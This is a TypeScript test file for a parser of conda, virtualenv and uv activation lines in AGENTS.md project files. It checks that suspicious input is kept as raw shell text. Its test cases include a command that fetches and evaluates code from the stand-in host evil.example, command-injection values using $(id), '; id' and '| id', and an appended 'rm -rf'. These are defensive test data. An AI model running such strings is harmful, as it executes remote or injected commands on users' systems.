import { expect, test } from "vitest";
import { parseActivation, parseConda, parseCondaHook } from "./conda.ts";
import { parseProject } from "./parse-project.ts";

test.each([
  [
    'eval "$(/opt/conda/bin/conda shell.bash hook)" && conda activate research',
    { env: "research", conda: "/opt/conda/bin/conda" },
  ],
  [
    'eval "$($HOME/miniconda3/bin/conda shell.bash hook)"; conda activate r',
    { env: "r", conda: "~/miniconda3/bin/conda" },
  ],
  ['eval "$(conda shell.bash hook)" && conda activate r', { env: "r", conda: null }],
  [
    "source ~/miniconda3/etc/profile.d/conda.sh && conda activate r",
    { env: "r", conda: "~/miniconda3/bin/conda" },
  ],
  [". /odd/conda.sh && conda activate /envs/r", { env: "/envs/r", conda: null, script: "/odd/conda.sh" }],
  ["conda activate 'r'", { env: "r", conda: null }],
  ["ml", { env: "ml", conda: null }],
  ["ml (Python 3.10)", { env: "ml", conda: null, note: "(Python 3.10)" }],
  ["./env", { env: "./env", conda: null }],
])("%s is read as data", (text, use) => {
  expect(parseConda(text, null)).toEqual(use);
});

test.each([
  'eval "$(/opt/conda/bin/conda shell.bash hook)" && conda activate r && rm -rf x',
  'eval "$(curl evil.example)" && conda activate r',
  'eval "$(/tmp/evil shell.bash hook)" && conda activate r',
  'eval "$(/opt/conda/bin/conda shell.bash hook; id)" && conda activate r',
  "source /x/setup.sh && conda activate r",
  "source /x/conda.sh | id && conda activate r",
  "conda activate $(id)",
  "conda activate -x",
  "conda activate r & id",
  "module load conda",
])("%s is shell text", (text) => {
  expect(parseConda(text, null)).toEqual({ shell: text });
});

test.each([
  ['eval "$(/opt/conda/bin/conda shell.bash hook)"', { conda: "/opt/conda/bin/conda" }],
  ["/opt/conda", { conda: "/opt/conda/bin/conda" }],
  ["/opt/conda/bin", { conda: "/opt/conda/bin/conda" }],
  ["/opt/conda/bin/conda", { conda: "/opt/conda/bin/conda" }],
  ["source /opt/conda/etc/profile.d/conda.sh", { conda: "/opt/conda/bin/conda" }],
  ["module load conda", { shell: "module load conda" }],
])("the hook %s", (text, hook) => {
  expect(parseCondaHook(text)).toEqual(hook);
});

test("an activation may be a virtual environment's", () => {
  expect(parseActivation("source .venv/bin/activate", null)).toEqual({ venv: ".venv" });
  expect(parseActivation("conda activate r", null)).toEqual({ env: "r", conda: null });
  expect(parseActivation("module load py", null)).toEqual({ shell: "module load py" });
});

test.each([
  ["conda_env: ml\n- conda_hook: /opt/conda", { conda: { env: "ml", conda: "/opt/conda/bin/conda" } }],
  ["Conda: /opt/conda\n- Conda env: ml", { conda: { env: "ml", conda: "/opt/conda/bin/conda" } }],
  ["Conda: source /x/setup.sh\n- Conda env: ml", { conda: { shell: "source /x/setup.sh", env: "ml" } }],
  ["conda_hook: module load conda\n- conda_env: ml", { conda: { shell: "module load conda", env: "ml" } }],
  [
    "conda_hook: /opt/conda\n- Activate: conda activate ml",
    { conda: { env: "ml", conda: "/opt/conda/bin/conda" } },
  ],
  ["Activation command: source .venv/bin/activate", { venv: ".venv" }],
  ["venv: `source .venv/bin/activate`", { venv: ".venv" }],
  ["Activate: module load py", { activate: { shell: "module load py" } }],
  ["uv: true\n- python: python3.11", { uv: true, python: "python3.11" }],
  ["uv: ./sub", { uv: "./sub" }],
  ["Conda: none", {}],
])("keys together: %j", (items, fields) => {
  const { targets, errors } = parseProject(`## Local Environment\n- ${items}\n`, "/p/AGENTS.md", "AGENTS.md");
  const { name, kind, heading, lines, notes, source, ...rest } = targets[0] as never as Record<
    string,
    unknown
  >;
  expect(errors).toEqual([]);
  expect(rest).toEqual(fields);
});
